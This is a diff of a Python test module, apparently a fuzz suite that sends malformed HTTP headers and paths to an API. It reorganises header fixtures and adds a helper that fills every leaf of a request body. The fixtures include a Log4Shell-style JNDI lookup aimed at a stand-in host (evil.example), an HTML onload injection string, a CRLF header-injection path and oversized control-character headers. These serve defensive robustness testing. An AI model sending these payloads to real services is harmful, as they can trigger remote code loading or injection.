@@ -104,11 +104,14 @@ PATHS: dict[str, str] = {
     "braces": "{{course_id}}",
     "newline": "{prefix}_01JD\r\nx: y",
 }
-HEADERS: dict[str, dict[str, str]] = {
+# What an operation reads itself, and what the kernel reads for all of them.
+OWN_HEADERS: dict[str, dict[str, str]] = {
     "tag that is none": {"if-match": "\x00\xff"},
     "a very long tag": {"if-match": '"' + "x" * 8000 + '"'},
     "a key with controls": {"idempotency-key": "\x01\x02"},
     "a very long key": {"idempotency-key": "x" * 8000},
+}
+OTHER_HEADERS: dict[str, dict[str, str]] = {
     "another correlation": {"x-correlation-id": 'x" onload="'},
     "another language": {"accept-language": "\xff" * 500},
     "another answer": {"accept": "application/xml;q=1, nonsense"},
@@ -121,6 +124,12 @@ HEADERS: dict[str, dict[str, str]] = {
     "a cookie": {"cookie": "a=" + "x" * 4000},
     "an old date": {"if-modified-since": "yesterday", "if-none-match": "*"},
     "a nasty program": {"user-agent": "\x1b[2J${jndi:ldap://evil.example/a}"},
+}
+OTHER_HEADERS_TOGETHER = {
+    name: value
+    for kind, headers in OTHER_HEADERS.items()
+    if kind not in {"compressed", "an odd length"}  # either may end the request before anything else is read
+    for name, value in headers.items()
 }
 KINDS = (
     "",
@@ -141,6 +150,15 @@ def with_each_leaf(example: Any, value: Any) -> Iterator[tuple[str, Any]]:
             place = place[step]
         place[steps[-1]] = value
         yield "/" + "/".join(map(str, steps)), body
+
+
+def with_every_leaf(example: Any, value: Any) -> Any:
+    """The example with the value in the place of each of its innermost leaves at once."""
+    if isinstance(example, dict) and example:
+        return {name: with_every_leaf(inner, value) for name, inner in example.items()}
+    if isinstance(example, list) and example:
+        return [with_every_leaf(example[0], value), *example[1:]]
+    return value
 
 
 def _leaves(thing: Any) -> Iterator[tuple[Any, ...]]:
